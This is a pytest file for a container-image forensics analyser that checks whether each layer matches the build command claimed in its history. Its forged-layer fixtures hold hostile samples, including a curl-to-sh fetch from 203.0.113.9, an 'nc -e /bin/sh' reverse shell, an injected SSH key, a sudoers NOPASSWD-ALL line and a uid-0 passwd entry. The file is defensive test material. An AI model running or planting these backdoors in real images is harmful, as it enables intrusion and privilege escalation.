"""Typed claims: each exact claim kind, on a real `created_by` string, holds the layer to what
the command produces there. Each kind is shown matching an honest layer (nothing at medium or
above) and contradicted by a forged one (history.effect-mismatch)."""

from __future__ import annotations

import hashlib

import pytest
from hostile import M, image_tar

from forensics.history.claims import Claim, judge, merge
from forensics.history.shellwords import run_effects
from forensics.pipeline import analyze

ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8
SCRIPT = b'#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nexec /usr/share/sdk/bin/tool "$@"\n'
ALARM = {"critical", "high", "medium"}

BASE = [
    M("etc/", type="dir"),
    M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
    M("etc/sudoers.d/", type="dir"),
    M("etc/app.conf", b"mode=prod\n"),
    M("usr/", type="dir"),
    M("usr/bin/", type="dir"),
    M("usr/bin/env", ELF, mode=0o755),
    M("usr/share/", type="dir"),
    M("usr/share/sdk/", type="dir"),
    M("usr/share/sdk/bin/", type="dir"),
    M("usr/share/sdk/bin/tool", ELF + b"sdk", mode=0o755),
    M("usr/local/", type="dir"),
    M("usr/local/bin/", type="dir"),
    M("usr/local/bin/entry.sh", b'#!/bin/sh\nexec "$@"\n', mode=0o644),
    M("opt/", type="dir"),
    M("opt/app/", type="dir"),
    M("opt/app/main.py", b"print('hi')\n"),
    M("opt/app/lib.py", b"X = 1\n"),
    M("etc/skel/", type="dir"),
    M("etc/skel/.bashrc", b"# skel\n"),
    M("home/", type="dir"),
    M("tmp/", type="dir"),
    M("tmp/vendor.conf", b"vendor=1\n"),
]


BASE_STEP = {"created_by": "/bin/sh -c #(nop) ADD file:4f0e9c0cb8d4 in / "}


def scan(tmp_path, created_by: str, layer: list[M], comment: str | None = None):
    step = {"created_by": created_by, **({"comment": comment} if comment else {})}
    return analyze(str(image_tar(tmp_path, [BASE, layer], [BASE_STEP, step])))


def alarms(report):
    return [f for f in report.findings if f.severity.value in ALARM]


def mismatches(report):
    return [f for f in report.findings if f.code == "history.effect-mismatch"]


def dirs(*names):
    return [M(n, type="dir") for n in names]


# --- one case per claim kind: (created_by, honest layer, forged layer, forged path) -------------

CASES = {
    "symlink (classic)": (
        "/bin/sh -c ln -s /usr/share/sdk/bin/tool /usr/bin/tool",
        dirs("usr/", "usr/bin/") + [M("usr/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
        dirs("usr/", "usr/bin/") + [M("usr/bin/tool", SCRIPT, mode=0o755)],
        "/usr/bin/tool",
    ),
    "symlink into a directory (buildah)": (
        "/bin/sh -c ln -sf /usr/share/sdk/bin/tool /usr/local/bin/",
        dirs("usr/", "usr/local/", "usr/local/bin/")
        + [M("usr/local/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
        dirs("usr/", "usr/local/", "usr/local/bin/") + [M("usr/local/bin/tool", type="symlink", link="/tmp/.x/tool")],
        "/usr/local/bin/tool",
    ),
    "echo literal (BuildKit)": (
        "RUN /bin/sh -c echo 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' "
        "> /etc/sudoers.d/deploy # buildkit",
        dirs("etc/", "etc/sudoers.d/")
        + [M("etc/sudoers.d/deploy", b"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n")],
        dirs("etc/", "etc/sudoers.d/") + [M("etc/sudoers.d/deploy", b"deploy ALL=(ALL) NOPASSWD: ALL\n")],
        "/etc/sudoers.d/deploy",
    ),
    "printf literal": (
        "/bin/sh -c printf '%s\\n' 'mode=prod' 'debug=0' > /etc/app.conf",
        dirs("etc/") + [M("etc/app.conf", b"mode=prod\ndebug=0\n")],
        dirs("etc/") + [M("etc/app.conf", b"mode=prod\ndebug=1\n")],
        "/etc/app.conf",
    ),
    "heredoc literal (BuildKit)": (
        "RUN /bin/sh -c cat > /etc/app.conf <<'EOF'\nmode=prod\nlisten=127.0.0.1\nEOF # buildkit",
        dirs("etc/") + [M("etc/app.conf", b"mode=prod\nlisten=127.0.0.1\n")],
        dirs("etc/") + [M("etc/app.conf", b"mode=prod\nlisten=0.0.0.0\n")],
        "/etc/app.conf",
    ),
    "tee from a pipe": (
        "/bin/sh -c echo 'nameserver 10.0.0.2' | tee /etc/resolv.conf.app",
        dirs("etc/") + [M("etc/resolv.conf.app", b"nameserver 10.0.0.2\n")],
        dirs("etc/") + [M("etc/resolv.conf.app", b"nameserver 198.51.100.7\n")],
        "/etc/resolv.conf.app",
    ),
    "append": (
        "/bin/sh -c echo 'app:x:1000:1000::/home/app:/usr/sbin/nologin' >> /etc/passwd",
        dirs("etc/")
        + [M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000::/home/app:/usr/sbin/nologin\n")],
        dirs("etc/") + [M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\napp:x:0:0::/home/app:/bin/bash\n")],
        "/etc/passwd",
    ),
    "cp (content of the source)": (
        "/bin/sh -c cp /tmp/vendor.conf /etc/vendor.conf",
        dirs("etc/") + [M("etc/vendor.conf", b"vendor=1\n")],
        dirs("etc/") + [M("etc/vendor.conf", b"vendor=1\nplugin=/tmp/.p.so\n")],
        "/etc/vendor.conf",
    ),
    "install -m (content of the source)": (
        "/bin/sh -c install -m 0755 /usr/share/sdk/bin/tool /usr/local/bin/sdk-tool",
        dirs("usr/", "usr/local/", "usr/local/bin/") + [M("usr/local/bin/sdk-tool", ELF + b"sdk", mode=0o755)],
        dirs("usr/", "usr/local/", "usr/local/bin/") + [M("usr/local/bin/sdk-tool", SCRIPT, mode=0o755)],
        "/usr/local/bin/sdk-tool",
    ),
    "mv (the source's former content)": (
        "/bin/sh -c mv /tmp/vendor.conf /etc/vendor.conf",
        dirs("etc/", "tmp/") + [M("tmp/.wh.vendor.conf"), M("etc/vendor.conf", b"vendor=1\n")],
        dirs("etc/", "tmp/") + [M("tmp/.wh.vendor.conf"), M("etc/vendor.conf", b"vendor=2\n")],
        "/etc/vendor.conf",
    ),
    "chmod (metadata only)": (
        "/bin/sh -c chmod 0755 /usr/local/bin/entry.sh",
        dirs("usr/", "usr/local/", "usr/local/bin/")
        + [M("usr/local/bin/entry.sh", b'#!/bin/sh\nexec "$@"\n', mode=0o755)],
        dirs("usr/", "usr/local/", "usr/local/bin/")
        + [M("usr/local/bin/entry.sh", b'#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444 &\nexec "$@"\n', mode=0o755)],
        "/usr/local/bin/entry.sh",
    ),
    "chown -R (metadata tree)": (
        "/bin/sh -c chown -R 1000:1000 /opt/app",
        dirs("opt/")
        + [
            M("opt/app/", type="dir", uid=1000, gid=1000),
            M("opt/app/main.py", b"print('hi')\n", uid=1000, gid=1000),
            M("opt/app/lib.py", b"X = 1\n", uid=1000, gid=1000),
        ],
        dirs("opt/")
        + [
            M("opt/app/", type="dir", uid=1000, gid=1000),
            M("opt/app/main.py", b"import os; os.system('id')\n", uid=1000, gid=1000),
            M("opt/app/lib.py", b"X = 1\n", uid=1000, gid=1000),
        ],
        "/opt/app/main.py",
    ),
    "sed -i (in-place edit keeps type and mode)": (
        "/bin/sh -c sed -i 's/prod/staging/' /etc/app.conf",
        dirs("etc/") + [M("etc/app.conf", b"mode=staging\n")],
        dirs("etc/") + [M("etc/app.conf", type="symlink", link="/tmp/evil.conf")],
        "/etc/app.conf",
    ),
    "mkdir": (
        "/bin/sh -c mkdir -p /opt/data",
        dirs("opt/", "opt/data/"),
        dirs("opt/") + [M("opt/data", SCRIPT, mode=0o755)],
        "/opt/data",
    ),
    "touch (an empty file)": (
        "/bin/sh -c touch /etc/app.ready",
        dirs("etc/") + [M("etc/app.ready", b"")],
        dirs("etc/") + [M("etc/app.ready", b"* * * * * root sh /tmp/x\n")],
        "/etc/app.ready",
    ),
    "rm (deleted)": (
        "/bin/sh -c rm -f /etc/app.conf && ln -s /dev/null /etc/app.conf.disabled",
        dirs("etc/") + [M("etc/.wh.app.conf"), M("etc/app.conf.disabled", type="symlink", link="/dev/null")],
        dirs("etc/")
        + [
            M("etc/app.conf", b"mode=prod\nhook=/tmp/x\n"),
            M("etc/app.conf.disabled", type="symlink", link="/dev/null"),
        ],
        "/etc/app.conf",
    ),
}


@pytest.mark.parametrize("kind", sorted(CASES))
def test_claim_matches_the_honest_layer(tmp_path, kind):
    created_by, honest, _forged, _path = CASES[kind]
    report = scan(tmp_path, created_by, honest)
    assert not alarms(report), [(f.code, f.detail) for f in alarms(report)]
    step = report.images[0].history[1].analysis
    assert step.counts["unexplained"] == 0


@pytest.mark.parametrize("kind", sorted(CASES))
def test_claim_contradicted_is_an_effect_mismatch(tmp_path, kind):
    created_by, _honest, forged, path = CASES[kind]
    report = scan(tmp_path, created_by, forged)
    found = [f for f in mismatches(report) if f.path == path]
    assert found, [(f.code, f.path, f.detail) for f in report.findings]
    assert found[0].severity.value in ("high", "critical")
    assert found[0].history == 1 and found[0].layer == 1


def test_mismatch_evidence_says_what_the_command_makes_and_what_is_there(tmp_path):
    created_by, _h, forged, _p = CASES["symlink (classic)"]
    [f] = mismatches(scan(tmp_path, created_by, forged))
    assert f.severity.value == "critical"  # an executable where the command makes a link
    assert "makes /usr/bin/tool a symlink to /usr/share/sdk/bin/tool" in f.detail
    assert "shell script" in f.detail and f"{len(SCRIPT)}-byte" in f.detail


def test_useradd_home_holds_skel_copies_only(tmp_path):
    created_by = "/bin/sh -c useradd -m -s /bin/bash dev"
    honest = dirs("etc/", "home/", "home/dev/") + [
        M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n"),
        M("home/dev/.bashrc", b"# skel\n"),
    ]
    report = scan(tmp_path, created_by, honest)
    assert not alarms(report), [(f.code, f.detail) for f in alarms(report)]
    forged = honest + [
        M("home/dev/.ssh/", type="dir"),
        M("home/dev/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nza attacker\n"),
    ]
    report = scan(tmp_path, created_by, forged)
    bad = {f.path for f in alarms(report)}
    assert "/home/dev/.ssh/authorized_keys" in bad or any(
        "/home/dev/.ssh/authorized_keys" in (f.evidence or {}).get("paths", []) for f in alarms(report)
    )


def test_compileall_explains_bytecode_only(tmp_path):
    created_by = "/bin/sh -c python3 -m compileall -q /opt/app"
    honest = dirs("opt/", "opt/app/", "opt/app/__pycache__/") + [
        M("opt/app/__pycache__/main.cpython-311.pyc", b"\xa7\r\r\n" + b"\0" * 12)
    ]
    assert not alarms(scan(tmp_path, created_by, honest))
    forged = honest + [M("opt/app/main.py", b"import os; os.system('curl x|sh')\n")]
    report = scan(tmp_path, created_by, forged)
    [f] = [f for f in alarms(report) if f.code == "history.unexplained-change"]
    assert "/opt/app/main.py" in f.evidence["paths"]


def test_write_through_a_lower_symlink_is_judged_where_it_lands(tmp_path):
    # /usr/bin/tool is a symlink below; `cp` onto it writes the link's target.
    base_link = "/bin/sh -c ln -s /usr/share/sdk/bin/tool /usr/bin/tool"
    created_by = "/bin/sh -c cp /tmp/vendor.conf /usr/bin/tool"

    layers = [
        BASE,
        dirs("usr/", "usr/bin/") + [M("usr/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
        dirs("usr/", "usr/share/", "usr/share/sdk/", "usr/share/sdk/bin/")
        + [M("usr/share/sdk/bin/tool", SCRIPT, mode=0o755)],
    ]
    history = [BASE_STEP, {"created_by": base_link}, {"created_by": created_by}]
    report = analyze(str(image_tar(tmp_path, layers, history)))
    [f] = mismatches(report)
    assert f.path == "/usr/share/sdk/bin/tool" and f.severity.value == "critical"
    assert "where a write to /usr/bin/tool lands" in f.detail


# --- the reader's side: what each command claims ----------------------------------------------


def test_literal_bytes_are_computed_as_the_shell_would():
    fx = run_effects(
        "printf 'a\\tb\\n%s\\n' x > /f1 && echo -n hi > /f2 && echo \"$HOME\" > /f3 "
        "&& echo 'a\\nb' > /f4 && echo '* * * * * root /x' > /etc/cron.d/job"
    )
    assert fx.claims["/f1"].content == b"a\tb\nx\n"
    assert fx.claims["/f2"].content == b"hi"
    assert fx.claims["/f3"].content is None  # an expansion: bytes not known
    assert fx.claims["/f4"].content is None  # dash and bash disagree on backslashes
    assert fx.claims["/etc/cron.d/job"].content == b"* * * * * root /x\n"  # quoted: no glob


def test_conditional_writes_are_possibilities():
    fx = run_effects("if [ -f /a ]; then echo a > /f; else echo b > /f; fi; [ -e /l ] || ln -s /x /l")
    assert fx.claims["/f"].conditional and fx.claims["/l"].conditional


def test_stderr_redirection_is_not_the_output():
    fx = run_effects("echo done 2> /var/log/err.log > /var/log/out.log")
    assert fx.claims["/var/log/out.log"].content == b"done\n"
    assert fx.claims["/var/log/err.log"].content is None


def test_claims_before_an_opaque_command_are_weakened():
    fx = run_effects("echo a > /etc/x.conf && ./configure && make install && ln -s /a /usr/bin/b")
    assert fx.claims["/etc/x.conf"].precision == "opaque"
    assert fx.claims["/usr/bin/b"].precision == "exact"


def test_merge_follows_command_order():
    w = Claim(path="/f", produces="file", command="echo a > /f", content=b"a\n")
    a = Claim(path="/f", produces="file", command="echo b >> /f", append=b"b\n")
    assert merge(w, a).content == b"a\nb\n"
    m = Claim(path="/f", produces="meta", command="chmod +x /f")
    assert merge(w, m).meta and merge(w, m).content == b"a\n"


def test_judge_checks_literal_content_by_digest():
    class Ch:
        change, what, sha256 = "added", [], hashlib.sha256(b"x\n").hexdigest()

    class E:
        type, kind, mode, size, link = "file", "data", 0o644, 2, None

    claim = Claim(path="/f", produces="file", command="echo x > /f", content=b"x\n")
    assert judge(claim, Ch, E, None, lambda p, b: None).verified
    Ch.sha256 = hashlib.sha256(b"y\n").hexdigest()
    assert not judge(claim, Ch, E, None, lambda p, b: None).ok


# --- evidence inside extracted trees -------------------------------------------------------------

VENDOR_TIME = 1_682_899_200  # 2023-05-01: when the release was packed
BUILD_TIME = 1_698_797_000  # the step's own time


def _sdk_layer(extra: list[M]) -> list[M]:
    tree = dirs("opt/", "opt/sdk/", "opt/sdk/lib/", "opt/sdk/share/")
    tree += [
        M(f"opt/sdk/lib/mod{i}.so", ELF + bytes([i]), mtime=VENDOR_TIME, uid=1000, gid=1000, mode=0o644)
        for i in range(8)
    ]
    tree += [M("opt/sdk/share/README", b"sdk\n", mtime=VENDOR_TIME, uid=1000, gid=1000)]
    return tree + extra


def _scan_at(tmp_path, created_by, layer):
    step = {"created_by": created_by, "created": "2023-11-01T00:00:00Z"}
    return analyze(str(image_tar(tmp_path, [BASE, layer], [BASE_STEP, step])))


def test_file_planted_in_an_extracted_tree_breaks_the_release_pattern(tmp_path):
    cmd = "/bin/sh -c tar -xzf /tmp/sdk.tgz -C /opt/sdk && rm /tmp/sdk.tgz"
    clean = _scan_at(tmp_path, cmd, _sdk_layer([]))
    assert not alarms(clean), [(f.code, f.detail) for f in alarms(clean)]
    planted = M("opt/sdk/lib/helper", SCRIPT, mtime=BUILD_TIME, uid=0, gid=0, mode=0o755)
    report = _scan_at(tmp_path, cmd, _sdk_layer([planted]))
    [f] = [f for f in mismatches(report) if f.path == "/opt/sdk/lib/helper"]
    assert f.severity.value == "medium"
    assert "build's time" in f.detail and "owned by 0:0" in f.detail


def test_no_same_owner_and_touch_drop_the_checks_they_void(tmp_path):
    planted = M("opt/sdk/lib/helper", SCRIPT, mtime=BUILD_TIME, uid=0, gid=0, mode=0o755)
    report = _scan_at(tmp_path, "/bin/sh -c tar -xzmf /tmp/sdk.tgz --no-same-owner -C /opt/sdk", _sdk_layer([planted]))
    assert not [f for f in mismatches(report) if f.path == "/opt/sdk/lib/helper"]


def _squashed(tmp_path, history, layer):
    return analyze(str(image_tar(tmp_path, [BASE, layer], history)))


def test_edit_of_a_file_another_squashed_step_made_is_explained_by_that_step(tmp_path):
    # buildah --layers=false: COPY and RUN share one layer; sed -i edits what COPY made.
    base = BASE_STEP
    copy = {"created_by": "/bin/sh -c #(nop) COPY file:9b1c4d in /etc/app2.conf ", "empty_layer": True}
    edit = {"created_by": "/bin/sh -c sed -i 's/prod/staging/' /etc/app2.conf"}
    layer = dirs("etc/") + [M("etc/app2.conf", b"mode=staging\n")]
    assert not alarms(_squashed(tmp_path, [base, copy, edit], layer))
    # Without the COPY nothing made the file the edit expects: the claim stands.
    report = _squashed(tmp_path, [base, edit], layer)
    assert [f.path for f in mismatches(report)] == ["/etc/app2.conf"]
